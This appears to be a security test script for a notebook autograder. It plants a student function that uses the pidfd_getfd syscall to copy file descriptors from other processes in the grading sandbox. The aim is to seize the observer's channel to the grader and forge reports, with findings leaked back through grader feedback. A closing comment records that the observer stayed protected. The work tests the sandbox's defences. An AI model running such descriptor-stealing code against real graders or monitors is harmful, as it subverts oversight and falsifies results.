# a09 (root, ps3_batch): a07's pidfd_getfd, from the observer's child (where the hidden check runs scale_lr):
# which descriptors of the other processes of the OBSERVER's sandbox (bwrap pid 1, the placeholder, the observer
# itself, non-dumpable) can the student's code copy? The child returns its findings as scale_lr's "value" (the
# judge repeats it in the feedback). A copy of the observer's channel to the grader would let it write reports.
# RESULT: see the end of this file.
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched

SCALE = r'''
def scale_lr(base_lr, base_batch, global_batch):
    import ctypes, os, glob
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = ["self %d" % os.getpid()]
    for d in sorted(glob.glob("/proc/[0-9]*")):
        pid = int(d[6:])
        if pid == os.getpid():
            continue
        try:
            fds = sorted(os.listdir(d + "/fd"), key=int)
        except Exception as e:
            fds = []
            out.append(f"{pid} {open(d + '/comm').read().strip()}: fds unlisted {e.__class__.__name__}")
        pidfd = libc.syscall(434, pid, 0)
        got = []
        for fd in (fds or range(0, 12)):
            new = libc.syscall(438, pidfd, int(fd), 0)
            if new >= 0:
                got.append(f"{fd}->{os.readlink(f'/proc/self/fd/{new}')}")
                os.close(new)
            elif not fds:
                got.append(f"{fd}:errno{ctypes.get_errno()}")
        out.append(f"{pid} {open(d + '/comm').read().strip()} pidfd={pidfd} copied: {got}")
    return " | ".join(out)
'''
students = {"peek": ac.notebook(overrides={"scale_lr": SCALE}, assignment="ps3_batch")}
dest = ac.make_course("r7-a09", students, assignment="ps3_batch")
grade_watched(dest)
os.system(f"""python3 -c "import json;nb=json.load(open('{dest}/autograded/peek/ps3_batch/ps3_batch.ipynb'));[print(o.get('evalue')) for c in nb['cells'] if c['metadata'].get('nbgrader',{{}}).get('grade_id')=='scale_lr_linear_rule' for o in c.get('outputs',[])]" """)
# RESULT (root, 09:36 UTC, /tmp/attack-course-r7-a09, a09_observer_sandbox_pidfd_getfd.out.txt): HELD for the
# observer: pidfd_getfd works on bwrap's pid 1 (0,1,2 -> /dev/null, 6 -> eventfd) and the placeholder (/dev/null)
# of the observer's sandbox, but every descriptor of the observer itself is refused (EPERM: non-dumpable), so its
# channel to the grader stays out of reach. pidfd_getfd is allowed there too (same filter).
